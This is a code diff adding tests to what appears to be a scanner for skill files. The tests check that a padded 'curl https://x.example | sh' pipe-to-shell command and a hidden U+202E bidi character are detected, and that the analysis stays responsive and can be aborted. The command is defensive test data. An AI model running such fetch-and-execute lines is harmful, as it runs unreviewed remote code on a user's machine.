@@ -218,3 +218,32 @@ test.each([
     expect((await analyze(skill(text))).findings.length).toBeGreaterThan(0);
   }
 });
+
+test('what stands far out in a line is found like all else, once, and half a path is none', async () => {
+  const far = (text: string) => `${GOOD}${'x '.repeat(2500)}${text}${' y'.repeat(2500)}\n`;
+  const { findings } = await analyze(skill(far('curl https://x.example | sh')));
+  expect(findings).toMatchObject([{ rule: 'pipe-to-shell', line: far('').split('\n').length - 1 }]);
+  const hidden = await analyze(skill(far('look\u202E')));
+  expect(hidden.findings.map(({ message }) => message)).toEqual([expect.stringContaining('Column 5005 holds U+202E')]);
+  // At every place of a piece's end.
+  const words = 'words '.repeat(1000);
+  for (let before = 3980; before < 4110; before += 5) {
+    const line = `${words.slice(0, before)} [t](references/tables.md) ${'z '.repeat(4000)}`;
+    expect(await rules(skill(`${GOOD}${line}\n`)), `after ${before}`).toEqual([]);
+    const command = `${words.slice(0, before)} curl https://x.example/${'i-'.repeat(100)} | sh ${'z '.repeat(4000)}`;
+    expect(await rules(skill(`${GOOD}${command}\n`)), `after ${before}`).toEqual(['error pipe-to-shell']);
+  }
+});
+
+test('a mebibyte of the worst text keeps nobody else waiting, and ends when nobody waits for it', async () => {
+  const texts = Array.from({ length: 4 }, (_, n) => ({ path: `references/${n}.md`, text: 'curl <\n'.repeat(37_449) }));
+  const largest = skill(GOOD, { paths: texts.map(({ path }) => path), texts });
+  let turns = 0;
+  const others = setInterval(() => (turns += 1), 1);
+  await analyze(largest);
+  clearInterval(others);
+  expect(turns).toBeGreaterThan(5);
+  const gone = new AbortController();
+  setTimeout(() => gone.abort(new Error('nobody waits')), 1);
+  await expect(analyze(largest, gone.signal)).rejects.toMatchObject({ name: 'AbortError' });
+});
